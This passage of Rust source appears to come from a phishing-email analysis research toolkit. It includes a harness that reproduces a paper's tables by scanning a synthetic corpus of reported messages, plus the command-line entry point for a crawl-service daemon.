    domains.sort_by(|a, b| b.1.cmp(a.1));
    println!("top landing domains:");
    for (d, n) in domains.into_iter().take(limit) {
        println!("  {n:>5}  {d}");
    }

    // Filtered detail.
    let matches: Vec<&ScanRecord> = records
        .iter()
        .filter(|r| class.map(|c| r.class == c).unwrap_or(true))
        .filter(|r| {
            domain
                .as_ref()
                .map(|d| {
                    r.visits
                        .iter()
                        .any(|v| v.landing_domain().map(|h| h.contains(d)).unwrap_or(false))
                })
                .unwrap_or(true)
        })
        .collect();
    if class.is_some() || domain.is_some() {
        println!("\n{} matching records:", matches.len());
        for r in matches.into_iter().take(limit) {
            let landing = r
                .visits
                .first()
                .map(|v| v.final_url().to_string())
                .unwrap_or_else(|| "(no visits)".to_string());
            println!(
                "  msg {:>5}  {:?}  {}  extracted {}  faulty-qr {}",
                r.message_id,
                r.class,
                landing,
                r.extracted.len(),
                r.has_faulty_qr(),
            );
        }
    }
}
