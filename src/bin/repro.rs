//! The reproduction harness: regenerate every table, figure and headline
//! statistic of the paper.
//!
//! ```text
//! repro [EXPERIMENT] [--scale F] [--seed N] [--json] [--log FILE.jsonl]
//!       [--scheduler serial|chunked|stealing] [--no-cache]
//!       [--stream] [--stream-capacity N] [--store DIR] [--store-shards N]
//!       [--commit-batch N] [--budget N] [--fault-rate F]
//!       [--trace FILE.jsonl] [--trace-chrome FILE.json] [--metrics FILE.json]
//!
//! EXPERIMENT: all (default) | table1 | ablation | table2 | figure2 |
//!             figure3 | classmix | spear | volumes | lexical | cloaking |
//!             ttest | funnel | faults | adaptive
//! --scale F:      corpus scale, default 1.0 (the paper's 5,181 messages)
//! --seed N:       corpus seed, default 2024
//! --json:         dump the full AnalysisReport as JSON to stdout
//! --scheduler S:  batch scheduler (default stealing); records are
//!                 identical across schedulers — only throughput changes
//! --no-cache:     disable the deterministic memoization caches
//! --stream:       bounded-memory mode: generate messages lazily and scan
//!                 them through the streaming pipeline, holding at most
//!                 stream-capacity + workers messages in memory. Reports
//!                 the §V class mix, the ground-truth agreement rate and
//!                 streaming body-size statistics (incompatible with
//!                 experiment sections other than all/classmix).
//! --stream-capacity N: streaming admission-window bound (default 32)
//! --store DIR:    persist the scan into the content-addressed crawl store
//!                 at DIR (created or crash-recovered on open). Records are
//!                 appended to the CRC-framed segment log, message and
//!                 screenshot bytes go to the deduplicating blob store, and
//!                 messages whose content hash is already stored are
//!                 skipped — rerunning against the same DIR is a delta
//!                 scan. Requires --stream. Inspect with `crawl-log store`.
//!                 A store with quarantined (corrupted) shards is refused:
//!                 run `crawl-log store DIR repair` first.
//! --store-shards N: shard count when DIR is created (default 4; an
//!                 existing store's shard count is fixed at creation)
//! --commit-batch N: durable group-commit ingest: fsync barriers are
//!                 amortized over batches of N records, and a record is
//!                 acked only once a barrier covers it. Without this flag
//!                 the log is made durable once, at the end of the run.
//!                 Requires --store.
//! --trace FILE:        write the sim-time span trace as JSONL (full mode:
//!                      advisory worker/cache fields included)
//! --trace-chrome FILE: write the trace in Chrome `trace_event` format —
//!                      load it at chrome://tracing or https://ui.perfetto.dev
//! --metrics FILE:      write the metrics registry (counters, gauges,
//!                      histograms) as JSON
//!
//! `faults` runs the three-arm transient-fault sweep (baseline /
//! supervised / retry-less) at a 20% fault rate instead of the normal
//! analysis flow.
//!
//! `adaptive` races the cb-adaptive bandit against fixed NotABot over the
//! cloaking-family grid instead of scanning a corpus. `--budget N` (1..=64)
//! pins the sweep to one visit budget, `--fault-rate F` injects transient
//! faults into every campaign world, and `--store DIR` loads/persists the
//! bandit's policy memory so a rerun resumes the race. The table is
//! byte-identical across schedulers for a fixed seed.
//! ```

use cb_phishgen::{Corpus, CorpusSpec};
use cb_stats::{Moments, P2Quantile};
use cb_store::{EncodedStoreSink, Store, StoreEncoder};
use crawlerbox::analysis::{analyze, fault_sweep, AnalysisReport};
use crawlerbox::{
    ClassMixSink, CrawlerBox, ExportMode, RecordSink, ScanRecord, Scheduler, TruthLedger,
};

/// Every experiment `section` knows how to render. Validated at parse time
/// so a typo fails with a usage message instead of an exit-0 shrug.
const EXPERIMENTS: &[&str] = &[
    "all", "table1", "ablation", "table2", "figure2", "figure3", "classmix", "spear", "volumes",
    "lexical", "cloaking", "ttest", "funnel", "faults", "adaptive",
];

struct Args {
    experiment: String,
    scale: f64,
    seed: u64,
    json: bool,
    log: Option<String>,
    scheduler: Scheduler,
    caching: bool,
    stream: bool,
    stream_capacity: usize,
    store: Option<String>,
    store_shards: usize,
    commit_batch: Option<usize>,
    budget: Option<u32>,
    fault_rate: Option<f64>,
    trace: Option<String>,
    trace_chrome: Option<String>,
    metrics: Option<String>,
}

impl Args {
    fn wants_telemetry(&self) -> bool {
        self.trace.is_some() || self.trace_chrome.is_some() || self.metrics.is_some()
    }
}

fn usage_exit(message: &str) -> ! {
    eprintln!("error: {message}");
    eprintln!(
        "usage: repro [EXPERIMENT] [--scale F] [--seed N] [--json] [--log FILE.jsonl] [--scheduler serial|chunked|stealing] [--no-cache] [--stream] [--stream-capacity N] [--store DIR] [--store-shards N] [--commit-batch N] [--budget N] [--fault-rate F] [--trace FILE.jsonl] [--trace-chrome FILE.json] [--metrics FILE.json]"
    );
    std::process::exit(2);
}

fn parse_args() -> Args {
    let mut args = Args {
        experiment: "all".to_string(),
        scale: 1.0,
        seed: 2024,
        json: false,
        log: None,
        scheduler: Scheduler::default(),
        caching: true,
        stream: false,
        stream_capacity: 32,
        store: None,
        store_shards: cb_store::StoreOptions::default().shards,
        commit_batch: None,
        budget: None,
        fault_rate: None,
        trace: None,
        trace_chrome: None,
        metrics: None,
    };
    let mut experiment_set = false;
    let mut scale_set = false;
    let mut iter = std::env::args().skip(1);
    while let Some(a) = iter.next() {
        match a.as_str() {
            "--scale" => {
                args.scale = match iter.next().and_then(|v| v.parse().ok()) {
                    Some(s) if s > 0.0 && s <= 1.0 => s,
                    _ => usage_exit("--scale needs a number in (0, 1]"),
                };
                scale_set = true;
            }
            "--seed" => {
                args.seed = match iter.next().and_then(|v| v.parse().ok()) {
                    Some(s) => s,
                    None => usage_exit("--seed needs an integer"),
                };
            }
            "--json" => args.json = true,
            "--scheduler" => {
                args.scheduler = match iter.next().as_deref() {
                    Some("serial") => Scheduler::Serial,
                    Some("chunked") => Scheduler::StaticChunk,
                    Some("stealing") => Scheduler::WorkStealing,
                    _ => usage_exit("--scheduler needs serial|chunked|stealing"),
                };
            }
            "--no-cache" => args.caching = false,
            "--stream" => args.stream = true,
            "--stream-capacity" => {
                args.stream_capacity = match iter.next().and_then(|v| v.parse().ok()) {
                    Some(n) if n >= 1 => n,
                    _ => usage_exit("--stream-capacity needs an integer >= 1"),
                };
            }
            "--log" => {
                args.log = match iter.next() {
                    Some(p) => Some(p),
                    None => usage_exit("--log needs a file path"),
                };
            }
            "--store" => {
                args.store = match iter.next() {
                    Some(p) => Some(p),
                    None => usage_exit("--store needs a directory path"),
                };
            }
            "--store-shards" => {
                args.store_shards = match iter.next().and_then(|v| v.parse().ok()) {
                    Some(n) if (1..=256).contains(&n) => n,
                    _ => usage_exit("--store-shards needs an integer in 1..=256"),
                };
            }
            "--commit-batch" => {
                args.commit_batch = match iter.next().and_then(|v| v.parse().ok()) {
                    Some(n) if n >= 1 => Some(n),
                    _ => usage_exit("--commit-batch needs an integer >= 1"),
                };
            }
            "--budget" => {
                args.budget = match iter.next().and_then(|v| v.parse().ok()) {
                    Some(n) if (1..=64).contains(&n) => Some(n),
                    _ => usage_exit("--budget needs an integer in 1..=64"),
                };
            }
            "--fault-rate" => {
                args.fault_rate = match iter.next().and_then(|v| v.parse().ok()) {
                    Some(r) if (0.0..=1.0).contains(&r) => Some(r),
                    _ => usage_exit("--fault-rate needs a number in [0, 1]"),
                };
            }
            "--trace" => {
                args.trace = match iter.next() {
                    Some(p) => Some(p),
                    None => usage_exit("--trace needs a file path"),
                };
            }
            "--trace-chrome" => {
                args.trace_chrome = match iter.next() {
                    Some(p) => Some(p),
                    None => usage_exit("--trace-chrome needs a file path"),
                };
            }
            "--metrics" => {
                args.metrics = match iter.next() {
                    Some(p) => Some(p),
                    None => usage_exit("--metrics needs a file path"),
                };
            }
            other if !other.starts_with('-') => {
                if experiment_set {
                    usage_exit(&format!(
                        "duplicate experiment {other:?} (already asked for {:?})",
                        args.experiment
                    ));
                }
                if !EXPERIMENTS.contains(&other) {
                    usage_exit(&format!(
                        "unknown experiment {other}; try: {}",
                        EXPERIMENTS.join(" ")
                    ));
                }
                args.experiment = other.to_string();
                experiment_set = true;
            }
            other => usage_exit(&format!("unknown flag {other}")),
        }
    }
    if args.experiment == "faults" && args.wants_telemetry() {
        usage_exit("--trace/--trace-chrome/--metrics don't apply to the fault sweep (it runs its own three pipelines)");
    }
    if args.experiment == "adaptive" {
        // The arms race generates its own campaign worlds: every
        // corpus/stream knob is meaningless here, and --store means
        // "persist the bandit's policy memory", not "ingest records".
        if scale_set || args.stream || args.log.is_some() || !args.caching
            || args.commit_batch.is_some()
        {
            usage_exit("adaptive races synthetic campaigns; it takes only --seed, --budget, --fault-rate, --scheduler, --json, --store (policy memory) and the telemetry flags");
        }
    } else {
        if args.budget.is_some() {
            usage_exit("--budget sizes the adaptive visit budget; combine it with the adaptive experiment");
        }
        if args.fault_rate.is_some() {
            usage_exit("--fault-rate sets the adaptive fault injection; combine it with the adaptive experiment");
        }
        if args.store.is_some() && !args.stream {
            usage_exit("--store persists through the streaming sink; combine it with --stream");
        }
        if args.commit_batch.is_some() && args.store.is_none() {
            usage_exit("--commit-batch sizes the store's group commit; combine it with --store");
        }
    }
    args
}

/// Write one telemetry export, or die with a usage error.
fn write_export(path: &str, what: &str, contents: &str) {
    if let Err(e) = std::fs::write(path, contents) {
        usage_exit(&format!("cannot write {what} {path}: {e}"));
    }
    eprintln!("{what} written to {path}");
}

/// Drain the box's trace and write whichever exports were requested.
/// Exports use full mode: the interleaving-dependent advisory data (worker
/// ids, shared-cache hit/miss) is exactly what a human reading a trace
/// wants; canonical mode is for golden files and determinism tests.
fn write_telemetry(args: &Args, cbx: &CrawlerBox<'_>) {
    if !args.wants_telemetry() {
        return;
    }
    let trace = cbx.take_trace();
    if let Some(path) = &args.trace {
        write_export(path, "trace JSONL", &trace.to_jsonl(ExportMode::Full));
    }
    if let Some(path) = &args.trace_chrome {
        write_export(path, "Chrome trace", &trace.to_chrome(ExportMode::Full));
    }
    if let Some(path) = &args.metrics {
        write_export(path, "metrics JSON", &cbx.export_metrics(ExportMode::Full));
    }
}

fn section(report: &AnalysisReport, which: &str) -> String {
    match which {
        "table1" => format!("== Table I ==\n{}", report.table1),
        "ablation" => format!("== A1 ablation ==\n{}", report.ablation),
        "table2" => format!("== Table II ==\n{}", report.table2),
        "figure2" => format!("== Figure 2 ==\n{}", report.figure2),
        "figure3" => format!("== Figure 3 ==\n{}", report.figure3),
        "classmix" => format!("== Class mix ==\n{}", report.class_mix),
        "spear" => format!(
            "== Spear ==\nactive {} spear {} ({:.1}%) hotlinking {} ({:.1}% of spear)\nlanding URLs {} domains {}\n",
            report.spear.active,
            report.spear.spear,
            report.spear.spear as f64 * 100.0 / report.spear.active.max(1) as f64,
            report.spear.hotlinking,
            report.spear.hotlinking as f64 * 100.0 / report.spear.spear.max(1) as f64,
            report.landing_urls,
            report.table2.total_domains,
        ),
        "volumes" => format!(
            "== Volumes ==\nmean {:.2} median {:.1} max {}\nsingles: max/day {:.1} total {:.1}\nmulti:   max/day {:.1} total {:.1}\ntop: {:?}\n",
            report.volumes.mean_messages,
            report.volumes.median_messages,
            report.volumes.max_messages,
            report.volumes.single_median_max_per_day,
            report.volumes.single_median_total,
            report.volumes.multi_median_max_per_day,
            report.volumes.multi_median_total,
            report.volumes.top_by_queries,
        ),
        "lexical" => format!(
            "== Lexical ==\ndeceptive {}/{} punycode {}\n",
            report.lexical.deceptive, report.lexical.total, report.lexical.punycode
        ),
        "cloaking" => format!(
            "== Cloaking ==\n{}challenge-gated {}/{}\n",
            report.cloaking, report.challenge_gating.0, report.challenge_gating.1
        ),
        "ttest" => match &report.t_test {
            Some(t) => format!("== t-test ==\n{t}\n"),
            None => "== t-test ==\n(not computable: need 10 months)\n".to_string(),
        },
        "funnel" => format!(
            "== Funnel ==\ninbound {} filtered {} delivered {} reported {} malicious {} spam {} legit {}\n",
            report.funnel.inbound,
            report.funnel.filtered,
            report.funnel.delivered,
            report.funnel.reported,
            report.funnel.confirmed_malicious,
            report.funnel.confirmed_spam,
            report.funnel.confirmed_legitimate,
        ),
        "all" => report.render(),
        other => format!("unknown experiment {other}; try: all table1 ablation table2 figure2 figure3 classmix spear volumes lexical cloaking ttest funnel faults adaptive\n"),
    }
}

/// Default transient-fault rate for `repro faults` (the ISSUE's sweep
/// point: 20% of URLs flaky).
const FAULT_SWEEP_RATE: f64 = 0.2;

/// Incremental sink for `--stream`: class-mix + agreement counters plus
/// online body-size statistics, with optional per-record JSONL logging.
/// Nothing here retains records, so residency stays bounded by the
/// pipeline window.
struct StreamSummary<W: std::io::Write> {
    mix: ClassMixSink,
    body_bytes: Moments,
    body_median: P2Quantile,
    log: Option<W>,
}

impl<W: std::io::Write> RecordSink for StreamSummary<W> {
    fn accept(&mut self, record: ScanRecord) {
        if let Some(w) = &mut self.log {
            let written = serde_json::to_writer(&mut *w, &record)
                .map_err(std::io::Error::from)
                .and_then(|()| w.write_all(b"\n"));
            if let Err(e) = written {
                eprintln!("error: writing crawl log: {e}");
                std::process::exit(2);
            }
        }
        let bytes = record.body_bytes as f64;
        self.body_bytes.push(bytes);
        self.body_median.push(bytes);
        self.mix.accept(record);
    }
}

/// The `--stream` flow: lazy corpus synthesis fed straight into the
/// bounded streaming pipeline; every headline number is computed
/// incrementally so peak memory stays O(stream_capacity + workers)
/// messages regardless of `--scale`.
fn run_stream(args: &Args, spec: &CorpusSpec) {
    if args.experiment != "all" && args.experiment != "classmix" {
        usage_exit("--stream reproduces the class-mix/agreement headline; combine it only with `all` or `classmix`");
    }
    let log = args.log.as_ref().map(|path| {
        match std::fs::File::create(path) {
            Ok(file) => std::io::BufWriter::new(file),
            Err(e) => usage_exit(&format!("cannot create crawl log {path}: {e}")),
        }
    });
    eprintln!(
        "streaming corpus (scale {}, seed {}, capacity {}) ...",
        args.scale, args.seed, args.stream_capacity
    );
    let (corpus, stream) = Corpus::stream(spec, args.seed);
    let total = stream.len();
    let mut cbx = CrawlerBox::new(&corpus.world)
        .with_scheduler(args.scheduler)
        .with_caching(args.caching)
        .with_stream_capacity(args.stream_capacity)
        .with_tracing(args.trace.is_some() || args.trace_chrome.is_some());
    cbx.parallelism = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(4);
    let store = args.store.as_ref().map(|dir| {
        // --commit-batch switches on durable group-commit ingest: every
        // batch ends with the blob-dir → segment → watermark barrier and
        // records are acked batch-at-a-time. Without it the run syncs
        // once, at finish.
        let opts = cb_store::StoreOptions {
            shards: args.store_shards,
            fsync_each_append: args.commit_batch.is_some(),
            commit_batch: args.commit_batch.unwrap_or(1),
            ..Default::default()
        };
        match Store::open_with(std::path::Path::new(dir), opts) {
            Ok(s) => s,
            Err(e) => usage_exit(&format!("cannot open store {dir}: {e}")),
        }
    });
    if let Some(store) = &store {
        let recovery = store.recovery();
        for torn in &recovery.torn {
            eprintln!(
                "store: recovered torn tail in {} (dropped {} bytes: {})",
                torn.segment.display(),
                torn.dropped_bytes,
                torn.reason
            );
        }
        if store.is_degraded() {
            for (id, reason) in store.quarantined() {
                eprintln!("store: shard {id} QUARANTINED: {reason}");
            }
            usage_exit(&format!(
                "store at {} is degraded; run `crawl-log store {} repair` before writing",
                store.root().display(),
                store.root().display()
            ));
        }
        eprintln!(
            "store: {} record(s), {} blob(s) already on disk — re-recorded messages will be skipped",
            recovery.records, recovery.blobs
        );
        cbx = cbx
            .with_known_hashes(store.known_hashes())
            .with_artifact_capture(true);
    }
    let ledger = TruthLedger::new();
    let tap = ledger.clone();
    let mut sink = StreamSummary {
        mix: ClassMixSink::with_truth(ledger),
        body_bytes: Moments::new(),
        body_median: P2Quantile::median(),
        log,
    };
    eprintln!("scanning {total} reported messages through the streaming pipeline ...");
    let stream = stream.inspect(move |m| tap.note(m.truth.class));
    let (delivered, store_stats, store_dropped) = match store {
        None => (cbx.scan_stream(stream, &mut sink), None, 0),
        Some(store) => {
            // The encoded ingest path: records are serialized and framed
            // on the scan workers, batched by the sink, and fanned out to
            // their shards in parallel by `append_batch` — bit-identical
            // on disk to the owned-record oracle path.
            let mut persisting = EncodedStoreSink::with_inner(store, sink);
            let delivered = cbx.scan_stream_encoded(stream, &StoreEncoder, &mut persisting);
            let dropped = persisting.dropped() as u64;
            let (store, inner) = match persisting.finish() {
                Ok(done) => done,
                Err(e) => usage_exit(&format!(
                    "store write failed ({dropped} record(s) dropped after poisoning): {e}"
                )),
            };
            sink = inner;
            let stats = store.stats();
            eprintln!(
                "store: {} record(s) in {} segment(s) across {} shard(s) ({} log bytes), {} blob(s), {} dedup hit(s)",
                stats.records, stats.segments, stats.shards, stats.log_bytes, stats.blobs,
                stats.blob_dedup_hits
            );
            eprintln!(
                "store ingest: {} batch(es), {} acked, {} fsync(s) ({:.3}/record)",
                stats.commit_batches,
                stats.acked,
                stats.fsyncs,
                stats.fsyncs as f64 / stats.appended.max(1) as f64,
            );
            (delivered, Some(stats), dropped)
        }
    };
    write_telemetry(args, &cbx);
    let mut stats = cbx.stats();
    stats.store_dropped = store_dropped;
    eprintln!("scan stats: {stats}");
    eprintln!(
        "scheduler summary: {} steals | cache hit rate {:.1}% | peak in-flight {}",
        stats.steals,
        stats.cache_hit_rate() * 100.0,
        stats.peak_in_flight
    );
    if let Some(w) = sink.log.as_mut() {
        if let Err(e) = std::io::Write::flush(w) {
            usage_exit(&format!("writing crawl log: {e}"));
        }
    }
    if let Some(path) = &args.log {
        eprintln!("crawl log written to {path}");
    }
    let mix = sink.mix.mix();
    let agreement = sink.mix.agreement_rate();
    if args.json {
        let value = serde_json::json!({
            "delivered": delivered,
            "class_mix": mix,
            "agreement_rate": agreement,
            "body_bytes": {
                "mean": sink.body_bytes.mean(),
                "stddev": sink.body_bytes.stddev(),
                "median": sink.body_median.estimate(),
            },
            "stats": stats,
            "store": store_stats,
        });
        println!(
            "{}",
            serde_json::to_string_pretty(&value).expect("summary serializes")
        );
    } else {
        print!("== Class mix (streamed) ==\n{mix}");
        match agreement {
            Some(rate) => println!("ground-truth agreement: {:.2}%", rate * 100.0),
            None => println!("ground-truth agreement: n/a (no records compared)"),
        }
        match sink.body_median.estimate() {
            Some(median) => println!(
                "body bytes: mean {:.1} stddev {:.1} median ~{median:.0} (n = {})",
                sink.body_bytes.mean(),
                sink.body_bytes.stddev(),
                sink.body_bytes.count(),
            ),
            None => println!("body bytes: n/a (no records)"),
        }
    }
}

/// The `adaptive` experiment: race the bandit against fixed NotABot over
/// the cloaking-family grid. With `--store DIR` the learned policy memory
/// is loaded before the run and persisted after it, so rerunning against
/// the same DIR resumes the arms race.
fn run_adaptive(args: &Args) {
    let mut cfg = cb_adaptive::AdaptiveConfig::new(args.seed);
    if let Some(budget) = args.budget {
        cfg = cfg.with_budget(budget);
    }
    if let Some(rate) = args.fault_rate {
        cfg.fault_rate = rate;
    }
    cfg.scheduler = args.scheduler;
    cfg.parallelism = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(4);
    cfg.tracing = args.trace.is_some() || args.trace_chrome.is_some();
    let store = args.store.as_ref().map(|dir| {
        match Store::open(std::path::Path::new(dir)) {
            Ok(s) => s,
            Err(e) => usage_exit(&format!("cannot open store {dir}: {e}")),
        }
    });
    let resume = store
        .as_ref()
        .map(cb_adaptive::PolicyMemory::load)
        .unwrap_or_default();
    if !resume.cells.is_empty() {
        eprintln!(
            "adaptive: resuming the race from {} persisted cell polic{}",
            resume.cells.len(),
            if resume.cells.len() == 1 { "y" } else { "ies" },
        );
    }
    eprintln!(
        "racing adaptive vs fixed NotABot (seed {}, budgets {:?}, fault rate {}) ...",
        cfg.seed, cfg.budgets, cfg.fault_rate
    );
    let out = cb_adaptive::experiment::run(&cfg, &resume);
    if let Some(path) = &args.trace {
        write_export(path, "trace JSONL", &out.trace.to_jsonl(ExportMode::Full));
    }
    if let Some(path) = &args.trace_chrome {
        write_export(path, "Chrome trace", &out.trace.to_chrome(ExportMode::Full));
    }
    if let Some(path) = &args.metrics {
        write_export(path, "metrics JSON", &out.metrics.export_json(ExportMode::Full));
    }
    if let Some(store) = &store {
        if let Err(e) = out.memory.save(store) {
            usage_exit(&format!("cannot persist adaptive policy memory: {e}"));
        }
        eprintln!(
            "adaptive: policy memory ({} cells) persisted to {}",
            out.memory.cells.len(),
            store.root().display()
        );
    }
    if args.json {
        println!(
            "{}",
            serde_json::to_string_pretty(&out.report).expect("report serializes")
        );
    } else {
        print!("== Adaptive vs fixed NotABot ==\n{}", out.report);
    }
}

fn main() {
    let args = parse_args();
    if args.experiment == "adaptive" {
        run_adaptive(&args);
        return;
    }
    let spec = CorpusSpec::paper().with_scale(args.scale);
    if args.experiment == "faults" {
        // The sweep generates its own three corpora (baseline, supervised,
        // retry-less) — it replaces the single-corpus flow below.
        eprintln!(
            "running fault sweep (scale {}, seed {}, rate {FAULT_SWEEP_RATE}) ...",
            args.scale, args.seed
        );
        let report = fault_sweep(&spec, args.seed, FAULT_SWEEP_RATE);
        if args.json {
            println!(
                "{}",
                serde_json::to_string_pretty(&report).expect("report serializes")
            );
        } else {
            print!("== Fault sweep ==\n{report}");
        }
        return;
    }
    if args.stream {
        run_stream(&args, &spec);
        return;
    }
    eprintln!(
        "generating corpus (scale {}, seed {}) ...",
        args.scale, args.seed
    );
    let corpus = Corpus::generate(&spec, args.seed);
    eprintln!(
        "scanning {} reported messages with CrawlerBox/NotABot ...",
        corpus.messages.len()
    );
    let mut cbx = CrawlerBox::new(&corpus.world)
        .with_scheduler(args.scheduler)
        .with_caching(args.caching)
        .with_tracing(args.trace.is_some() || args.trace_chrome.is_some());
    cbx.parallelism = std::thread::available_parallelism()
        .map(|n| n.get())
        .unwrap_or(4);
    let records = cbx.scan_all(&corpus.messages);
    write_telemetry(&args, &cbx);
    let stats = cbx.stats();
    eprintln!("scan stats: {stats}");
    eprintln!(
        "scheduler summary: {} steals | cache hit rate {:.1}% | peak in-flight {}",
        stats.steals,
        stats.cache_hit_rate() * 100.0,
        stats.peak_in_flight
    );
    if let Some(path) = &args.log {
        match std::fs::File::create(path) {
            Ok(file) => {
                crawlerbox::logging::write_jsonl(std::io::BufWriter::new(file), &records)
                    .unwrap_or_else(|e| usage_exit(&format!("writing crawl log: {e}")));
                eprintln!("crawl log written to {path}");
            }
            Err(e) => usage_exit(&format!("cannot create crawl log {path}: {e}")),
        }
    }
    eprintln!("analyzing {} scan records ...", records.len());
    let report = analyze(&corpus.world, &spec, &records);

    if args.json {
        println!("{}", serde_json::to_string_pretty(&report).expect("report serializes"));
    } else {
        print!("{}", section(&report, &args.experiment));
    }
}
