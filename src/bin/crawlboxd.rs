//! `crawlboxd`: the crawl-as-a-service daemon (DESIGN.md §15).
//!
//! ```text
//! crawlboxd --store DIR [--addr IP] [--port N] [--shards N]
//!           [--commit-batch N] [--scheduler serial|chunked|stealing]
//!           [--seed N] [--scale F] [--workers N] [--queue N]
//!           [--read-timeout-ms N] [--max-body BYTES]
//! ```
//!
//! Prints `crawlboxd listening on IP:PORT` once the socket is bound
//! (`--port 0` picks a free port), serves the wire API described in
//! [`crawlerbox_suite::daemon`], and exits 0 after `POST /shutdown`
//! drains every shard queue and flushes every pending commit batch.

use crawlerbox::Scheduler;
use crawlerbox_suite::daemon::{run, DaemonConfig};
use std::path::PathBuf;
use std::time::Duration;

fn usage_exit(message: &str) -> ! {
    eprintln!("error: {message}");
    eprintln!(
        "usage: crawlboxd --store DIR [--addr IP] [--port N] [--shards N] \
         [--commit-batch N] [--scheduler serial|chunked|stealing] [--seed N] \
         [--scale F] [--workers N] [--queue N] [--read-timeout-ms N] [--max-body BYTES]"
    );
    std::process::exit(2);
}

fn parsed<T: std::str::FromStr>(flag: &str, value: Option<String>) -> T {
    match value.and_then(|v| v.parse().ok()) {
        Some(v) => v,
        None => usage_exit(&format!("{flag} needs a valid value")),
    }
}

fn main() {
    let mut config = DaemonConfig::default();
    let mut store: Option<PathBuf> = None;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--store" => store = Some(PathBuf::from(parsed::<String>("--store", args.next()))),
            "--addr" => config.addr = parsed("--addr", args.next()),
            "--port" => config.port = parsed("--port", args.next()),
            "--shards" => config.shards = parsed("--shards", args.next()),
            "--commit-batch" => config.commit_batch = parsed("--commit-batch", args.next()),
            "--scheduler" => {
                config.scheduler = match args.next().as_deref() {
                    Some("serial") => Scheduler::Serial,
                    Some("chunked") => Scheduler::StaticChunk,
                    Some("stealing") => Scheduler::WorkStealing,
                    other => usage_exit(&format!(
                        "--scheduler must be serial|chunked|stealing, got {other:?}"
                    )),
                }
            }
            "--seed" => config.seed = parsed("--seed", args.next()),
            "--scale" => config.scale = parsed("--scale", args.next()),
            "--workers" => config.workers = parsed("--workers", args.next()),
            "--queue" => config.queue = parsed("--queue", args.next()),
            "--read-timeout-ms" => {
                config.read_timeout =
                    Duration::from_millis(parsed("--read-timeout-ms", args.next()))
            }
            "--max-body" => config.max_body = parsed("--max-body", args.next()),
            other => usage_exit(&format!("unknown flag {other}")),
        }
    }
    let Some(store) = store else {
        usage_exit("--store DIR is required");
    };
    config.store_root = store;
    if config.shards == 0 {
        usage_exit("--shards must be at least 1");
    }
    if !(0.0..=1.0).contains(&config.scale) || !config.scale.is_finite() {
        usage_exit("--scale must be a fraction in (0, 1]");
    }

    if let Err(e) = run(config) {
        eprintln!("error: {e}");
        std::process::exit(1);
    }
}
